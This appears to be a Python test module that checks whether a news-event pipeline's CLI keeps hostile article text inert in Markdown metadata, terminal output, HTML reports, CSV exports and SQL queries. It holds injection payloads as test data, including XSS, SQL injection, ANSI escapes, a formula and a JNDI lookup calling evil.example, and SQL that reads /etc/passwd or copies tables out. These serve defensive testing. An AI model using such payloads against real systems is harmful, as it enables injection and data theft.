"""Articles made to act on whoever looks at them: what is shown in the UI, in terminals, in HTML, in CSV stays inert."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

from markdown_it import MarkdownIt
from markdown_it.token import Token

from benchmarks.disturbed.site import BEFORE, REPOSITORY, Site, check
from pipelines.tables.read import connect

NAMES = {
    "Markdown": "[Orlo](http://evil.example) ![x](http://evil.example/x.png) **Bold** `code` www.evil.example",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "SQL": "Robert'); DROP TABLE events; --",
    "ANSI escapes": "\x1b]0;owned\x07\x1b[2J\x1b[31mRed\x9b31m",
    "RTL overrides": "Ada \u202egnp.exe\u2066 \u200fOrlo",
    "a formula": '=HYPERLINK("http://evil.example";"Orlo")',
    "a template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} %s %n",
    "10,000 characters": "Orlo" * 2_500,
}
ACTIVE = {"html_block", "html_inline", "link_open", "image", "em_open", "strong_open", "code_inline", "heading_open"}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ATTACKS = [
    "select * from read_csv('/etc/passwd')",
    "select * from read_text('/etc/passwd')",
    "select * from '/etc/passwd'",
    "copy events to '/tmp/stolen.csv'",
    "attach '/tmp/other.db' as other",
    "install httpfs",
    "load httpfs",
    "select * from read_parquet('https://evil.example/x.parquet')",
    "set enable_external_access = true",
    "set lock_configuration = false",
    "select getenv('HOME')",
    "create table stolen as select * from documents",
    "drop table events",
    "delete from events",
    "update events set title = 'x'",
    "pragma enable_checkpoint_on_shutdown",
    "export database '/tmp/stolen'",
]


def articles(folder: Path) -> None:
    """Each of the names as file name, title, outlet, person and place of an article, and as an id that is refused."""
    lines = []
    for number, name in enumerate(NAMES.values()):
        text = f'Gunmen of {name} killed 12 people in {name} on Monday. "We will attack," {name} said. {name} fled.'
        fields = {"id": name, "title": f"{name} {number}", "text": text, "outlet": name, "url": name, "byline": name}
        lines += [json.dumps(fields), json.dumps({**fields, "text": f"Other words. {text}"}), name.split("\n")[0]]
        if len(name) < 100:
            safe = name.replace("/", "\u2215")
            (folder / f"{safe}.txt").write_text(f"{name}\n\nBy file. {text}\n", encoding="utf-8")
            (folder / f"{safe}.txtt").write_text("no reader", encoding="utf-8")
    (folder / "names.jsonl").write_text("\n".join(lines), encoding="utf-8")


def shown(site: Site, *arguments: str) -> tuple[int, str]:
    """Exit code of a command on a terminal, and all that it writes there."""
    master, slave = pty.openpty()
    command = [sys.executable, "-m", "pipelines.cli", *arguments]
    environment = {**os.environ, "DAGSTER_HOME": str(site.home), "NO_COLOR": "1", "TERM": "dumb", "COLUMNS": "160"}
    process = subprocess.Popen(command, cwd=REPOSITORY, env=environment, stdout=slave, stderr=slave, stdin=slave)
    os.close(slave)
    told = b"".join(_blocks(master))
    os.close(master)
    return process.wait(), told.decode(errors="replace")


def _blocks(descriptor: int) -> Iterator[bytes]:
    while True:
        try:
            block = os.read(descriptor, 1 << 16)
        except OSError:  # the terminal is closed at the other end
            return
        if not block:
            return
        yield block


def piped(site: Site, *arguments: str) -> str:
    """What a command writes to a pipe."""
    command = [sys.executable, "-m", "pipelines.cli", *arguments]
    environment = {**os.environ, "DAGSTER_HOME": str(site.home)}
    done = subprocess.run(command, cwd=REPOSITORY, env=environment, capture_output=True, text=True, check=False)
    return done.stdout


def hostile(site: Site) -> None:
    """Look at hostile articles everywhere where they are shown."""
    articles(site.input)
    since = time.monotonic()
    code, told = site.run()
    problems = [f"the run fails: {told[-300:]}"] if code else []
    with connect(site.output) as connection:
        counts = connection.execute(
            "select (select count(*) from documents), (select count(*) from events), (select count(*) from rejects)"
        ).fetchone()
    check(problems, f"hostile articles: {counts[0]} read, {counts[1]} events, {counts[2]} refusals", since)
    if not code:
        for experiment in (in_metadata, in_terminals, in_html, in_csv, in_queries):
            experiment(site)


def in_metadata(site: Site) -> None:
    """Markdown that Dagster shows holds nothing but text in tables."""
    since, problems, seen = time.monotonic(), list[str](), 0
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for asset, text in _markdown(site):
        seen += 1
        found = {token.type for token in _tokens(parser.parse(text))} & ACTIVE
        found |= set(re.findall(r"(?<![\\\w])(?:https?:|www\.)", text)) | set(CONTROL.findall(text))
        problems += [f"{asset}: {sorted(found)}"] if found else []
    problems += [] if seen else ["no metadata was seen"]
    check(problems, f"  Dagster's metadata: {seen} pieces of Markdown without links, markup, HTML", since)


def _markdown(site: Site) -> Iterator[tuple[str, str]]:
    import dagster as dg  # noqa: PLC0415 - heavy

    from pipelines.runner.job import instance  # noqa: PLC0415

    os.environ["DAGSTER_HOME"] = str(site.home)
    with instance() as home:
        for key in home.all_asset_keys():
            for record in home.fetch_materializations(key, limit=5).records:
                made = record.asset_materialization
                for value in made.metadata.values() if made else ():
                    if isinstance(value, dg.MarkdownMetadataValue):
                        yield key.to_user_string(), value.md_str or ""


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def in_terminals(site: Site) -> None:
    """Every command that shows words of articles shows them without control characters."""
    since, problems, seen = time.monotonic(), list[str](), 0
    output = ("--output", str(site.output))
    commands: list[tuple[str, ...]] = [
        ("run", "--input", str(site.input), "--workers", "1"),
        ("tables",),
        ("rejects",),
        ("rejects", "--format", "json"),
        ("status",),
        ("withdraw",),
        *(("sql", "--format", form, f"select * from {table}") for form, table in FORMS),
    ]
    with connect(site.output) as connection:
        queries = [f"(select {column} from {table} order by all limit 4)" for column, table in SHOWN]
        ids = [name for (name,) in connection.execute(" union all ".join(queries)).fetchall()]
    for command in (*commands, *(("show", name) for name in ids)):
        code, told = shown(site, *command, *output)
        seen += 1
        acting = CONTROL.findall(told.replace("\r\n", "\n"))
        problems += [f"sitrep {command[0]}: exit code {code}: {told[-200:]}"] if code else []
        problems += [f"sitrep {' '.join(command)}: {sorted(set(acting))}"] if acting else []
    check(problems, f"  terminals: {seen} commands without control characters and overrides", since)


SHOWN = [("event_id", "events"), ("doc_id", "documents"), ("actor_id", "actors"), ("figure_id", "figures")]
FORMS = [
    (form, table)
    for form in ("table", "csv", "json", "md")
    for table in ("documents", "events", "actors", "sources", "rejects", "event_summary")
]


class Active(HTMLParser):
    """What could act in a page: scripts, handlers, links that lead out, things loaded from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts, self.found = 0, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.scripts += tag == "script"
        for name, value in attrs:
            leads_out = name in {"src", "href", "xlink:href", "action"} and not (value or "").startswith(("#", "data:"))
            if name.startswith("on") or leads_out or (tag in {"iframe", "object", "embed", "base"}):
                self.found.append(f"<{tag} {name}={value}>"[:80])


def in_html(site: Site) -> None:
    """The report on hostile articles has the elements of a report, its own scripts, and no more."""
    since, problems, scripts = time.monotonic(), list[str](), list[int]()
    harmless = site.folder / "harmless"
    site.write(BEFORE)
    site.run(output=harmless)
    for output in (harmless, site.output):
        page = site.folder / "situation.html"
        code, told = shown(site, "report", "--file", str(page), "--output", str(output))
        problems += [f"sitrep report: {told}"] if code else []
        parser, text = Active(), page.read_text(encoding="utf-8")
        parser.feed(text)
        scripts.append(parser.scripts)
        problems += [*parser.found, *sorted(set(ACTING.findall(text)))]
    problems += [] if scripts[0] == scripts[1] else [f"{scripts[1]} scripts in place of {scripts[0]}"]
    check(problems, f"  HTML: {scripts[0]} scripts of the report's own, no handler, nothing loaded, no link out", since)


def in_csv(site: Site) -> None:
    """No cell of a CSV file is a formula."""
    since, problems, cells = time.monotonic(), list[str](), 0
    views = ("event_summary", "documents", "actors", "sources", "rejects", "events")
    for view in views:
        path = site.folder / f"{view}.csv"
        shown(site, "export", "--format", "csv", "--view", view, "--file", str(path), "--output", str(site.output))
        asked = piped(site, "sql", "--format", "csv", f"select * from {view}", "--output", str(site.output))
        for text in (path.read_text(encoding="utf-8-sig"), asked):
            rows = list(csv.reader(io.StringIO(text)))
            cells += sum(map(len, rows))
            problems += [f"{view}: {cell[:60]!r}" for row in rows for cell in row if _acts(cell)]
            problems += [] if len(rows) > 1 else [f"{view}: no rows"]
    check(problems, f"  CSV: {cells:,} cells, none of them a formula", since)


def _acts(cell: str) -> bool:
    return cell.lstrip(" \x00")[:1] in {"=", "+", "-", "@", "\t", "\r"} and not re.fullmatch(r"-?[\d.e+-]+", cell)


def in_queries(site: Site) -> None:
    """Queries that would reach beyond the tables are refused in a line, and files are read where that is allowed."""
    since, problems = time.monotonic(), list[str]()
    for attack in ATTACKS:
        code, told = shown(site, "sql", attack, "--output", str(site.output))
        lines = told.strip().splitlines()
        if not code or len(lines) != 1 or not lines[0].startswith("sitrep: "):
            problems.append(f"{attack}: exit code {code}: {told[:200]}")
    query = f"select count(*) from read_text('{__file__}')"
    code, told = shown(site, "sql", "--allow-files", query, "--output", str(site.output))
    problems += [f"--allow-files: {told}"] if code else []
    check(problems, f"  SQL: {len(ATTACKS)} queries that reach beyond the tables refused in a line each", since)
